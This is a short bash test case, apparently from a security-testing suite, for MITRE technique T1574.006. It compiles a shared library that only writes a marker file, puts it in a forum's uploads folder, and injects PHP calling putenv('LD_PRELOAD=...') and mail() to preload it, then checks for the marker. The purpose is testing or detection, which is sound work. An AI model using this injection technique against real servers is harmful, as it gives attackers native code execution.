# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1574.006
about="putenv and mail(): a library is preloaded into the mail program"
before() {
	echo '#include <fcntl.h>
__attribute__((constructor)) static void run(void) { open("/var/tmp/fidelity/marker/was-here", O_CREAT | O_WRONLY, 0644); }' >"$state/p.c"
	gcc -shared -fPIC -o $forum/uploads/p.so "$state/p.c"
}
attack() { inject 'putenv("LD_PRELOAD=/srv/forum/uploads/p.so"); mail("a", "b", "c");'; }
effect() { [ -e "$marker" ]; }
after() { rm -f $forum/uploads/p.so; }
